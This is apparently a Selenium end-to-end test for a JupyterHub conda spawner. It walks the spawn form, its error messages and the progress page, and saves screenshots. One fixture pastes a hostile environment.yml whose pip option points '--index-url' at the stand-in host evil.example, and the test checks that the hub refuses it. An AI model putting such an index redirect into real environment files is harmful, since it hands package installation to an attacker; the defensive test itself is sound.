"""The spawn form and the progress page as a person sees them: headless Chromium, screenshots.

One user goes through the hub the way a person would: log in, open the spawn form, paste a
hostile environment.yml (refused, one-line error), then start the default profile and watch
the progress page until JupyterLab loads. Every step is asserted on what the page shows, and
a PNG of it is saved under ``test-artifacts/screenshots/`` (or ``$CONDASPAWNER_ARTIFACTS``)
for people to look at. The browser is Debian's ``chromium`` driven through ``chromedriver``
by Selenium; the session fixture installs both (as root) when they are missing.
"""

from __future__ import annotations

import base64
import math
import os
import shutil
import struct
import subprocess
import time
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from fixtures_docker import REPO, bench_unavailable

pytestmark = pytest.mark.docker

CHROMIUM = "/usr/bin/chromium"
CHROMEDRIVER = "/usr/bin/chromedriver"
CHROMIUM_FLAGS = (
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
    "--disable-dev-shm-usage", "--no-proxy-server", "--hide-scrollbars", "--window-size=1280,1024",
)
HOSTILE_ENV = (
    "channels: [conda-forge]\n"
    "dependencies:\n"
    "  - python=3.9\n"
    "  - pip:\n"
    "    - --index-url http://evil.example/simple\n"
    "    - requests\n"
)
UNSOLVABLE_ENV = "channels: [conda-forge]\ndependencies:\n  - python=3.9\n  - cs-gamaa\n"
IGNORED_KEYS_ENV = "channels: [conda-forge]\ndependencies:\n  - python=3.9\n  - cs-beta\nplatforms: [linux-64]\n"
SPAWN_TIMEOUT = 900  # a first spawn builds the python39 image on the bench


# -- fixtures ------------------------------------------------------------------------------------

@pytest.fixture(scope="session")
def chromium() -> tuple[str, str]:
    """Debian's chromium and chromedriver, installed with apt-get when missing."""
    try:
        import selenium  # noqa: F401
    except ImportError:
        bench_unavailable("selenium is not installed (pip install -e '.[test]')")
    if not (os.path.exists(CHROMIUM) and os.path.exists(CHROMEDRIVER)):
        if os.geteuid() != 0:
            bench_unavailable(f"{CHROMIUM} or {CHROMEDRIVER} is missing and installing them needs root")
        if shutil.which("apt-get") is None:
            bench_unavailable(f"{CHROMIUM} or {CHROMEDRIVER} is missing and there is no apt-get")
        env = {**os.environ, "DEBIAN_FRONTEND": "noninteractive"}
        install = ["apt-get", "install", "-y", "--no-install-recommends", "chromium", "chromium-driver"]
        try:
            result = subprocess.run(install, check=False, env=env, capture_output=True, text=True, timeout=900)
            if result.returncode != 0:  # a stale package list: update once, then try again
                subprocess.run(["apt-get", "update"], check=False, env=env, capture_output=True, text=True, timeout=600)
                result = subprocess.run(install, check=False, env=env, capture_output=True, text=True, timeout=900)
        except subprocess.TimeoutExpired as error:
            bench_unavailable(f"installing chromium timed out: {error}")
        if result.returncode != 0 or not (os.path.exists(CHROMIUM) and os.path.exists(CHROMEDRIVER)):
            tail = (result.stdout + result.stderr).strip().splitlines()[-5:]
            bench_unavailable("cannot install chromium and chromium-driver: " + " | ".join(tail))
    return CHROMIUM, CHROMEDRIVER


@pytest.fixture(scope="module")
def artifacts() -> Path:
    root = Path(os.environ.get("CONDASPAWNER_ARTIFACTS") or REPO / "test-artifacts")
    folder = root / "screenshots"
    folder.mkdir(parents=True, exist_ok=True)
    return folder


@pytest.fixture
def browser(chromium, tmp_path) -> Iterator:
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    binary, driver_path = chromium
    options = webdriver.ChromeOptions()
    options.binary_location = binary
    for flag in CHROMIUM_FLAGS:
        options.add_argument(flag)
    options.add_argument(f"--user-data-dir={tmp_path / 'chromium-profile'}")
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    service = Service(executable_path=driver_path, log_output=str(tmp_path / "chromedriver.log"))
    driver = webdriver.Chrome(options=options, service=service)
    driver.set_page_load_timeout(120)
    try:
        yield driver
    finally:
        driver.quit()


# -- helpers ------------------------------------------------------------------------------------

def wait_for(condition: Callable[[], object], timeout: float, what: str, interval: float = 0.2):
    deadline = time.monotonic() + timeout
    last_error: Exception | None = None
    while time.monotonic() < deadline:
        try:
            value = condition()
            if value:
                return value
        except Exception as error:  # the page is changing under us: a stale element, a reload
            last_error = error
        time.sleep(interval)
    raise AssertionError(f"timed out after {timeout:.0f} s waiting for {what}" +
                         (f" (last error: {last_error!r})" if last_error else ""))


def full_page_screenshot(driver, path: Path) -> tuple[int, int]:
    """The whole page, not only the viewport (Chrome's DevTools protocol); returns the PNG's size."""
    metrics = driver.execute_cdp_cmd("Page.getLayoutMetrics", {})
    content = metrics.get("cssContentSize") or metrics["contentSize"]
    viewport = metrics.get("cssLayoutViewport") or metrics["layoutViewport"]
    width = math.ceil(max(content["width"], viewport["clientWidth"]))
    height = math.ceil(max(content["height"], viewport["clientHeight"]))
    shot = driver.execute_cdp_cmd("Page.captureScreenshot", {
        "format": "png", "captureBeyondViewport": True, "fromSurface": True,
        "clip": {"x": 0, "y": 0, "width": width, "height": height, "scale": 1},
    })
    data = base64.b64decode(shot["data"])
    path.write_bytes(data)
    return png_size(path)


def png_size(path: Path) -> tuple[int, int]:
    data = path.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n" and data[12:16] == b"IHDR", f"{path} is not a PNG"
    return struct.unpack(">II", data[16:24])


def page_errors(driver) -> list[str]:
    """Severe console messages (script errors) of the page, the favicon's 404 left out."""
    return [entry["message"] for entry in driver.get_log("browser")
            if entry["level"] == "SEVERE" and "favicon" not in entry["message"]]


def by_css(driver, selector: str):
    from selenium.webdriver.common.by import By
    return driver.find_elements(By.CSS_SELECTOR, selector)


def one(driver, selector: str):
    found = by_css(driver, selector)
    assert len(found) == 1, f"{len(found)} elements match {selector!r}"
    return found[0]


def press(driver, element) -> None:
    """Scroll ``element`` to the middle of the window, then click it, as a person would.

    At once: Bootstrap sets `scroll-behavior: smooth`, and chromedriver clicks mid-animation.
    """
    driver.execute_script(
        "arguments[0].scrollIntoView({block: 'center', inline: 'center', behavior: 'instant'})", element)
    element.click()


def open_custom_box(driver) -> None:
    box = one(driver, "#condaspawner-custom")
    if box.get_attribute("open") is None:
        press(driver, one(driver, "#condaspawner-custom > summary"))
    wait_for(lambda: one(driver, "#environment_text").is_displayed(), 30, "the paste box to open")


# -- the test ------------------------------------------------------------------------------------

def test_spawn_form_error_progress_and_lab_as_a_person_sees_them(chromium, hub, browser, artifacts):
    driver = browser
    user = f"shot-{uuid.uuid4().hex[:8]}"
    timings: dict[str, float] = {}
    shots: dict[str, tuple[int, int]] = {}
    started = time.monotonic()
    try:
        # Log in: DummyAuthenticator takes any name and no password.
        driver.get(f"{hub.url}/hub/login")
        one(driver, "#username_input").send_keys(user)
        press(driver, one(driver, "#login_submit"))
        wait_for(lambda: "/hub/login" not in driver.current_url, 30, "the login to go through")

        # The spawn form: a card per profile this user may use, and the upload/paste box.
        t0 = time.monotonic()
        driver.get(f"{hub.url}/hub/spawn")
        wait_for(lambda: by_css(driver, "[data-testid=condaspawner-form]"), 30, "the spawn form")
        timings["form"] = time.monotonic() - t0
        assert one(driver, "h1").text == "Server Options"
        radios = by_css(driver, "input[name=profile]")
        assert [radio.get_attribute("value") for radio in radios] == ["python39", "gpu-demo"]
        assert radios[0].is_selected() and not radios[1].is_selected()  # python39 is the default
        cards = {radio.get_attribute("value"): one(driver, f"label[for=profile-{radio.get_attribute('value')}]")
                 for radio in radios}
        for card in cards.values():
            assert card.is_displayed() and card.size["height"] > 40

        python39 = cards["python39"]
        assert python39.find_element("css selector", ".card-title").text == "Python 3.9 (demo channel)"
        badge = python39.find_element("css selector", ".badge")
        assert badge.text in ("ready", "will build"), badge.text
        if badge.text == "will build":  # the tooltip says how long the first start takes
            assert badge.get_attribute("title").startswith("The first start builds the image (")
        assert "Python 3.9, ipykernel and the demo packages" in python39.text
        assert python39.find_element("css selector", ".condaspawner-specs").text == "CPU only · 1 CPU · 2 GiB"

        gpu = cards["gpu-demo"]
        assert gpu.find_element("css selector", ".card-title").text == "Fake A100 (CUDA 12.4)"
        assert gpu.find_element("css selector", ".badge").text in ("ready", "will build")
        specs = gpu.find_element("css selector", ".condaspawner-specs").text
        assert specs.startswith("1 GPU"), specs
        # The hub has one (fake, static) A100, so the card carries no "this machine has no GPU" note.
        assert "no GPU" not in specs and "this machine has" not in specs, specs
        assert not gpu.find_elements("css selector", ".text-danger")

        body = one(driver, "body").text
        assert "Course homework 1" not in body and not by_css(driver, "#profile-course-hw1")

        summary = one(driver, "#condaspawner-custom > summary")
        assert summary.text == "Use my own environment.yml on this hardware"
        open_custom_box(driver)
        upload, paste = one(driver, "#environment_file"), one(driver, "#environment_text")
        assert upload.get_attribute("type") == "file" and upload.get_attribute("name") == "environment_file"
        assert upload.is_displayed() and upload.is_enabled()  # python39 allows a custom environment
        assert paste.get_attribute("name") == "environment_text" and paste.is_enabled()
        assert paste.get_attribute("value") == ""
        assert "Channels: conda-forge" in one(driver, "#condaspawner-custom").text
        assert one(driver, "#spawn_form button[type=submit]").text == "Start"
        assert page_errors(driver) == []
        shots["spawn-form.png"] = full_page_screenshot(driver, artifacts / "spawn-form.png")

        # A hostile environment: the form comes back with a one-line error naming the field.
        builds = hub.state / "builder" / "builds"
        builds_before = set(builds.iterdir()) if builds.exists() else set()
        paste.send_keys(HOSTILE_ENV)
        assert one(driver, "#environment_text").get_attribute("value") == HOSTILE_ENV
        t0 = time.monotonic()
        press(driver, one(driver, "#spawn_form button[type=submit]"))
        error = wait_for(lambda: by_css(driver, ".spawn-error-msg"), 30, "the form's error message")[0]
        timings["refusal"] = time.monotonic() - t0
        assert driver.current_url.split("?")[0].endswith("/hub/spawn")
        message = error.text
        assert "\n" not in message, message
        assert message.startswith("Error: pasted environment.yml: dependencies[1].pip[0] (line 5): "), message
        assert "'--index-url http://evil.example/simple'" in message
        assert message.endswith(
            "pip options (-e, -r, --index-url, --extra-index-url, --find-links, ...) are not allowed")
        assert error.is_displayed() and error.location["y"] < one(driver, "#spawn_form").location["y"]
        assert [r.get_attribute("value") for r in by_css(driver, "input[name=profile]")] == ["python39", "gpu-demo"]
        assert one(driver, "#profile-python39").is_selected()
        # The pasted text is given back (the form template keeps it for the re-render), so
        # the error's "line 5" can be found.
        assert one(driver, "#condaspawner-custom").get_attribute("open") is not None
        assert one(driver, "#environment_text").is_displayed()
        assert one(driver, "#environment_text").get_attribute("value") == HOSTILE_ENV
        assert hub.server_model(user) is None
        assert (set(builds.iterdir()) if builds.exists() else set()) == builds_before
        assert page_errors(driver) == []
        shots["spawn-form-error.png"] = full_page_screenshot(driver, artifacts / "spawn-form-error.png")

        # "Check" asks the hub and starts nothing: the same problem, listed under the box; then a
        # file with a key conda ignores: accepted, solved on this profile, and the key named.
        def check_answer() -> str:
            press(driver, one(driver, "#condaspawner-check"))
            return wait_for(lambda: [alert.text for alert in by_css(driver, "[data-testid=condaspawner-check-result] .alert")
                                     if not alert.text.startswith("Checking")], 120, "the check's answer")[0]

        answer = check_answer()
        assert answer.startswith("Refused:") and "pip options (-e, -r, --index-url" in answer, answer
        one(driver, "#environment_text").clear()
        one(driver, "#environment_text").send_keys(IGNORED_KEYS_ENV)
        answer = check_answer()
        assert answer.startswith("OK: it solves on this profile") and "ignored: platforms" in answer, answer
        assert hub.server_model(user) is None and page_errors(driver) == []
        shots["spawn-form-check.png"] = full_page_screenshot(driver, artifacts / "spawn-form-check.png")

        # A file that validates but cannot solve: the user reads why, in one line, and nothing starts.
        one(driver, "#environment_text").clear()
        one(driver, "#environment_text").send_keys(UNSOLVABLE_ENV)
        press(driver, one(driver, "#spawn_form button[type=submit]"))
        wait_for(lambda: "cs-gamaa" in one(driver, "body").text, 120, "the solve failure")
        body = one(driver, "body").text
        assert "Your environment cannot be solved: No candidates were found for cs-gamaa" in body, body
        assert "check your environment.yml" in body
        # Not the hub's error page ("500 : Internal Server Error"); the user's name, in the page's
        # header, is random hex and may itself hold "500".
        assert "500 :" not in body and "Internal Server Error" not in body and "Traceback" not in body, body
        assert hub.server_model(user) is None
        shots["spawn-solve-error.png"] = full_page_screenshot(driver, artifacts / "spawn-solve-error.png")
        driver.get(f"{hub.url}/hub/spawn")
        wait_for(lambda: by_css(driver, "[data-testid=condaspawner-form]"), 30, "the spawn form again")

        # Now the plain default: python39, no custom environment.
        press(driver, one(driver, "label[for=profile-python39]"))
        assert one(driver, "#profile-python39").is_selected()
        open_custom_box(driver)
        one(driver, "#environment_text").clear()
        assert one(driver, "#environment_text").get_attribute("value") == ""
        t0 = time.monotonic()
        press(driver, one(driver, "#spawn_form button[type=submit]"))
        wait_for(lambda: "/hub/spawn-pending/" in driver.current_url, 60, "the progress page")
        assert one(driver, "body").text.startswith("Your server is starting up.") or \
            "Your server is starting up." in one(driver, "body").text
        press(driver, one(driver, "#progress-details > summary"))  # the event log, as a curious person would

        def building() -> bool:
            log = one(driver, "#progress-log").text
            return "First build of this environment" in log or "(cached)" in log or "Starting your server" in log

        wait_for(building, 120, "the first progress events")
        wait_for(lambda: len(one(driver, "#progress-log").text.splitlines()) >= 3 or "Starting" in
                 one(driver, "#progress-log").text, 60, "a few more progress events")
        progress_log = one(driver, "#progress-log").text
        timings["first events"] = time.monotonic() - t0
        lines = progress_log.splitlines()
        assert lines[0] == "Server requested", lines  # the hub's own first event
        assert lines[1] == "Looking up the image of Python 3.9 (demo channel)", lines
        now = int(one(driver, "#progress-bar").get_attribute("aria-valuenow"))
        assert 0 < now < 100, now
        assert one(driver, "#progress-message").text.strip()
        assert not by_css(driver, "#progress-bar.bg-danger")
        shots["spawn-progress.png"] = full_page_screenshot(driver, artifacts / "spawn-progress.png")

        # Until the page reloads into the server: keep what the event log said on the way.
        seen: list[str] = []

        def left_pending() -> bool:
            if "/hub/spawn-pending/" in driver.current_url:
                lines = by_css(driver, "#progress-log .progress-log-event")
                if len(lines) > len(seen):
                    seen[:] = [line.text for line in lines]
                assert not by_css(driver, "#progress-bar.bg-danger"), "the spawn failed:\n" + "\n".join(seen)
                return False
            return True

        wait_for(left_pending, SPAWN_TIMEOUT, "the server to be ready", interval=0.5)
        timings["spawn"] = time.monotonic() - t0
        assert any(line.startswith("Starting your server (Python 3.9 (demo channel))") for line in seen), seen
        assert f"/user/{user}/" in driver.current_url, driver.current_url

        # JupyterLab, with the profile's kernel in the launcher.
        def lab_ready():
            cards = by_css(driver, ".jp-LauncherCard")
            return cards if any(card.get_attribute("title") == "Python 3.9 (demo channel)" or
                                "Python 3.9 (demo channel)" in card.text for card in cards) else None

        wait_for(lab_ready, 180, "JupyterLab's launcher with the python39 kernel", interval=0.5)
        timings["lab"] = time.monotonic() - t0
        assert "JupyterLab" in driver.title, driver.title
        time.sleep(1)  # let the launcher finish laying out its icons
        shots["lab.png"] = full_page_screenshot(driver, artifacts / "lab.png")
    finally:
        hub.stop_server(user)
        timings["total"] = time.monotonic() - started
        print("\ntimings: " + ", ".join(f"{name} {seconds:.1f} s" for name, seconds in timings.items()))
        print("screenshots in " + str(artifacts) + ": " +
              ", ".join(f"{name} {w}x{h}" for name, (w, h) in shots.items()))
    assert hub.server_model(user) is None
    for name, (width, height) in shots.items():
        assert (artifacts / name).stat().st_size > 10_000, name
        assert width >= 1280 and height >= 600, (name, width, height)
